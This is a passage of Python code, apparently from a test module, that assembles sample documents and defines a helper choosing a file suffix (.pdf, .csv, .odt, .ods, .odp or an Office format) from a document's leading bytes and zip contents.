        ("content", {f"text as {name}": text for name, text in FORMATS.items()}),
        ("formula", FORMULA_DOCUMENTS | {f"table with {name}": text for name, text in TABLES.items()}),
    )
    for name, content in documents.items()
}


def suffix_for(content: bytes) -> str:
    """Return the suffix that the content of a document asks for."""
    if content.startswith(b"%PDF"):
        return ".pdf"
    if not content.startswith(b"PK"):
        return ".csv"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        if "mimetype" in names:
            kind = archive.read("mimetype").decode().rpartition(".")[2]
            return {"text": ".odt", "spreadsheet": ".ods", "presentation": ".odp"}[kind]
    return next(f".{kind}" for kind, part in MAIN_PARTS.items() if part in names)
